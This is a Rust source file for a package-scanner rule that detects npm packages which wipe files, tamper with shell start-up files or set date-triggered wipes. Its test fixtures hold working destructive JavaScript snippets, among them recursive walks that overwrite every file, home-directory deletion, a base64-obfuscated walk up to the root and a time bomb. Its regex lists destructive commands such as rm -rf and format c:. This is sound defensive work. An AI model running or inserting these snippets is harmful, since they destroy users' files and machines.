//! Rule `destructive-fs`.

use crate::model::Severity;
use crate::package::Package;
use crate::rules::{Emitter, all_text, code_files, find_text, is_doc_path};

crate::declare_rule! {
    /// Wipes or sabotages the user's files or machine: `rm -rf ~`/`$HOME`/`/`, `shred`,
    /// `del /s /q`, `cipher /w`, recursive removal of the home directory from code, overwriting
    /// every file found while walking parent directories (or the installing project or the home
    /// folder, with one fixed text and no file read first), shutdown lines appended to shell rc
    /// files, and a time bomb: after a fixed date, emptying every file a recursive walk finds.
    id: "destructive-fs",
    category: Other,
    severity: High,
    capability: Some(crate::model::Capability::FilesystemWrite),
    title: "destroys files or sabotages the machine",
    incident: "node-ipc 10.1.1 (2022) overwrote every file for Russian/Belarusian IPs; Shai-Hulud 2 wiped $HOME; Nx appended shutdown to .bashrc",
    case_file: "index.js",
    flag: ["const walk = d => { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) walk(p); else fs.writeFileSync(p, '\\u2764'); } }; walk(path.resolve(process.cwd(), '..', '..'))",
           "execSync('rm -rf ~/*')", "fs.rmSync(os.homedir(), { recursive: true, force: true })",
           "fs.appendFileSync(path.join(os.homedir(), '.bashrc'), '\\nsudo shutdown -h 0\\n')",
           "const a = require('fs'); function h(d){ for (const e of a.readdirSync(d)) { const p = d + '/' + e; if (a.lstatSync(p).isDirectory()) h(p); else a.writeFile(p, 'x', () => {}) } } h(Buffer.from('Li4vLi4v', 'base64').toString()); h(Buffer.from('Lw==', 'base64').toString())",
           "const T = new Date('2025-06-01').getTime(); function sweep(d) { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) sweep(p); else fs.writeFileSync(p, '') } } if (Date.now() > T) sweep(path.join(process.cwd(), 'src'))",
           "function walk(d){ for (const e of fs.readdirSync(d)) { const p = d + '/' + e; if (fs.statSync(p).isDirectory()) walk(p); else fs.writeFileSync(p, '\\u2764') } } ['./', '../', '../../', '/'].forEach(walk)",
           "const { readdir, writeFile } = require('fs/promises'); const MSG = 'Peace.'; async function w(d) { for (const e of await readdir(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) await w(p); else await writeFile(p, MSG) } } w(os.homedir())",
           "const NOTE = 'No war.'; const w = (d) => { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) w(p); else if (/\\.(js|json)$/.test(e.name)) fs.writeFileSync(p, NOTE) } }; w(process.env.INIT_CWD || process.cwd())"],
    pass: ["const walk = d => { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) walk(p); else out.push(p); } }; walk(src); fs.writeFileSync(path.join(dist, 'files.json'), JSON.stringify(out))",
           "fs.rmSync(path.join(tmp, 'build'), { recursive: true })",
           // a codemod reads every file it rewrites; a scaffolder drops empty placeholders
           "const w = (d) => { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) w(p); else fs.writeFileSync(p, fs.readFileSync(p, 'utf8').replace(/var /g, 'let ')) } }; w(process.cwd())",
           "const w = (d) => { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) { fs.writeFileSync(path.join(p, '.gitkeep'), ''); w(p) } } }; w(process.cwd())",
           // vite 5.2.10: lists directories in one function, writes a fixed package.json into
           // its cache in another, and names '..' elsewhere; no walk overwrites anything
           "function scan(dir) { for (const e of fs.readdirSync(dir, { withFileTypes: true })) { if (e.isDirectory()) scan(path.join(dir, e.name)); else found.push(e.name); } }\nconst up = path.resolve(root, '..');\n/* ................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................ */\nfunction prepare(cacheDir) { fs.mkdirSync(cacheDir, { recursive: true }); fs.writeFileSync(path.resolve(cacheDir, 'package.json'), `{\\n  \"type\": \"module\"\\n}\\n`); }", "// never run rm -rf / on a machine"],
}

/// Whether a call is `fs.<name>…` of node's fs module, callback or promise API (`fs.promises.`,
/// `fs/promises.`).
fn fs_call(path: &str, name: &str) -> bool {
    ["fs.", "fs.promises.", "fs/promises."]
        .iter()
        .any(|p| path.strip_prefix(p).is_some_and(|r| r.starts_with(name)))
}

/// How far (in bytes) after a directory listing an overwrite still counts as part of the walk
/// (node-ipc 10.1.1: about 520 bytes; vite 5.2.10's unrelated write: 227,000).
const WALK_WINDOW: usize = 1_500;

fn check(pkg: &Package, out: &mut Emitter) {
    let shell = crate::regex!(
        r#"(?i)\brm\s+-[a-z]*r[a-z]*f?[a-z]*\s+(~|\$HOME|\$\{?HOME\}?|/\s|/\*|/['"`]|\.\./\.\.)|\bshred\s+-[a-z]*u|\bdel\s+/[fsq]\s+/[fsq]|\bcipher(\.exe)?\s+/w|\brd\s+/s\s+/q\s+[a-z]:\\|\bmkfs\.|\bdd\s+if=/dev/(zero|random)\s+of=/dev/|shutdown\s+-h\s+(0|now)|format\s+c:"#
    );
    let rc = crate::regex!(r"\.(bashrc|zshrc|bash_profile|profile)\b");
    for f in code_files(pkg) {
        if is_doc_path(&f.path) {
            continue;
        }
        if !crate::mentions!(
            all_text(f),
            [
                "rm ",
                "rm\t",
                "shred",
                "del ",
                "cipher",
                "rd ",
                "mkfs",
                "dd ",
                "shutdown",
                "format",
                "rmSync",
                "rm(",
                "rmdir",
                "rimraf",
                "remove",
                "bashrc",
                "zshrc",
                "profile",
                "writeFile"
            ]
        ) {
            continue;
        }
        let comment = |o: u32| {
            let o = o as usize;
            let start = f.text[..o.min(f.text.len())]
                .rfind('\n')
                .map_or(0, |i| i + 1);
            let line = f.text[start..].trim_start();
            line.starts_with("//")
                || line.starts_with('*')
                || line.starts_with('#') && !line.starts_with("#!")
        };
        if let Some((off, m)) = find_text(f, shell).into_iter().find(|(o, _)| !comment(*o)) {
            out.hit(pkg, f, off, format!("destructive command ({})", m.trim()));
            continue;
        }
        let Some(js) = &f.js else { continue };
        if let Some(c) = js.calls.iter().find(|c| {
            matches!(
                c.path.as_str(),
                "fs.rmSync"
                    | "fs.rm"
                    | "fs.rmdirSync"
                    | "fs.rmdir"
                    | "fs/promises.rm"
                    | "fs.promises.rm"
                    | "rimraf"
                    | "rimraf.sync"
                    | "fs-extra.removeSync"
                    | "fs-extra.remove"
            ) && (c.arg_path(0).is_some_and(|p| {
                p == "os.homedir" || p == "process.env.HOME" || p == "process.env.USERPROFILE"
            }) || c
                .arg_lit(0)
                .is_some_and(|l| matches!(l, "/" | "~" | "C:\\" | "../" | "../../")))
        }) {
            out.hit(
                pkg,
                f,
                c.off,
                format!("removes the home directory or the root ({})", c.path),
            );
            continue;
        }
        let text = all_text(f);
        if let Some(c) = js
            .calls
            .iter()
            .find(|c| c.path.starts_with("fs.appendFile") || c.path.starts_with("fs.writeFile"))
            && rc.is_match(text)
            && (text.contains("shutdown")
                || text.contains("rm -rf")
                || text.contains("curl")
                || text.contains("wget"))
        {
            out.hit_sev(
                Severity::Critical,
                pkg,
                f,
                c.off,
                "tampers with shell start-up files (.bashrc/.zshrc)",
            );
            continue;
        }
        // The overwrite must sit in the walk itself: within a few lines after a directory
        // listing. A bundle that lists a directory in one function and writes a fixed
        // package.json in another (vite 5.2.10's dependency optimiser) walks nothing.
        let listings: Vec<u32> = js
            .calls
            .iter()
            .filter(|c| fs_call(&c.path, "readdir"))
            .map(|c| c.off)
            .collect();
        let in_walk = |off: u32| {
            listings
                .iter()
                .any(|&l| l <= off && ((off - l) as usize) < WALK_WINDOW)
        };
        let walks = !listings.is_empty();
        let writes = js
            .calls
            .iter()
            .find(|c| fs_call(&c.path, "writeFile") && in_walk(c.off));
        // Each finding below needs `writes` or `overwrites` (a write inside a walk, which
        // `overwrites` narrows): without one, skip the searches of the text that follow.
        if writes.is_none() {
            continue;
        }
        let derived = |w: &str| js.derived.iter().any(|(d, _)| d == w);
        let climbs = text.contains("'../../'")
            || text.contains("\"../../\"")
            || text.contains("'../../../'")
            || derived("../../");
        let root = text.contains("'/'") || text.contains("\"/\"") || derived("/");
        // A recursive walk from above the project that overwrites what it finds with constant
        // content (node-ipc 10.1.1 and its locale-keyed imitators).
        let overwrites = js.calls.iter().find(|c| {
            fs_call(&c.path, "writeFile")
                && c.arg_lit(1).is_some()
                && c.arg_lit(0).is_none()
                && in_walk(c.off)
        });
        let above = text.contains("\"..\"") || text.contains("'..'") || climbs;
        let recursive = js
            .calls
            .iter()
            .filter(|c| fs_call(&c.path, "readdir"))
            .count()
            >= 1
            && (text.contains("isDirectory") || text.contains("withFileTypes"));
        // A time bomb: after a fixed date, a recursive walk empties or overwrites what it finds.
        let bomb = crate::regex!(
            r#"new Date\(\s*['"`]\d{4}-\d{2}-\d{2}|Date\.UTC\(\s*20\d\d|getFullYear\(\)\s*[><]=?\s*20\d\d"#
        );
        if let (true, Some(w)) = (walks && recursive, overwrites)
            && bomb.is_match(text)
            && (text.contains("Date.now()") || text.contains("new Date()"))
        {
            out.hit_sev(
                Severity::Critical,
                pkg,
                f,
                w.off,
                "after a fixed date, walks directories and overwrites every file with fixed content",
            );
            continue;
        }
        if let (true, true, Some(w)) = (walks && recursive, above, overwrites) {
            out.hit(
                pkg,
                f,
                w.off,
                "walks directories from above the project and overwrites every file with fixed content",
            );
            continue;
        }
        // The same walk started at the project that installs the package (`INIT_CWD`, the
        // working directory) or at the home folder, overwriting every file with one fixed,
        // non-empty text and never reading a file first: a code formatter or codemod reads what
        // it rewrites, and a generator writing empty placeholders writes nothing of its own.
        let project = text.contains("INIT_CWD")
            || text.contains("process.cwd()")
            || js.calls.iter().any(|c| c.path == "os.homedir");
        let reads = js.calls.iter().any(|c| fs_call(&c.path, "readFile"));
        let fixed_text = overwrites.filter(|c| c.arg_lit(1).is_some_and(|l| !l.trim().is_empty()));
        if let (true, true, false, Some(w)) = (walks && recursive, project, reads, fixed_text) {
            out.hit(
                pkg,
                f,
                w.off,
                "walks the installing project or the home folder and overwrites every file with fixed content",
            );
            continue;
        }
        if let (true, Some(w), true, true) = (walks, writes, climbs, root) {
            out.hit(
                pkg,
                f,
                w.off,
                "walks parent directories up to the root and overwrites the files it finds",
            );
        }
    }
}
